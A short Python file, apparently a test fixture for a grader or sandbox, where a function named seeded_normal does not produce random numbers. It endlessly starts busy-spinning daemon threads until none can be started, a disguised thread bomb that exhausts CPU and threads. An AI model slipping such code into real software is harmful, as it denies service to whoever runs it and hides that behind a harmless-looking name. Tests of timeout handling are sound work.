"""Starts threads until none can be started, and lets them spin."""
# exercise: start.seeded_normal
# deserves: timeout 0
import threading


def spin():
    while True:
        pass


def seeded_normal(shape, seed, std=1.0):
    while True:
        try:
            threading.Thread(target=spin, daemon=True).start()
        except RuntimeError:
            pass
